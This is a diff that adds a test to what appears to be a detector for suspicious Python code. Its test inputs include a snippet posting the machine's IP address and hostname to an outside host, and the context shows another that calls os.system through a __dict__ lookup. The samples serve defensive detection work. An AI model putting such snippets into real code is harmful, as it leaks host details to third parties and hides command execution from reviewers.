@@ -429,6 +429,14 @@ def name():
   ]);
 });
 
+test('the address of this machine is asked for by its name, which nobody is told', () => {
+  const own = 'from socket import gethostbyname, gethostname\nip = gethostbyname(gethostname())\n';
+  assert.deepEqual(python(`${own}requests.get(f"http://{ip}:9000/api/sessions")\n`), []);
+  assert.deepEqual(python(`${own}requests.post("https://c.example.net", data=[ip, gethostname()])\n`), [
+    'system-facts-sent',
+  ]);
+});
+
 test('a method that is kept to be put back is not called in disguise', () => {
   assert.deepEqual(python('import_module("x")\nkept = db.Connection.__dict__["connect"]\n'), []);
   assert.deepEqual(python('import os as o\no.__dict__["system"]("id")\n'), ['disguised-call']);
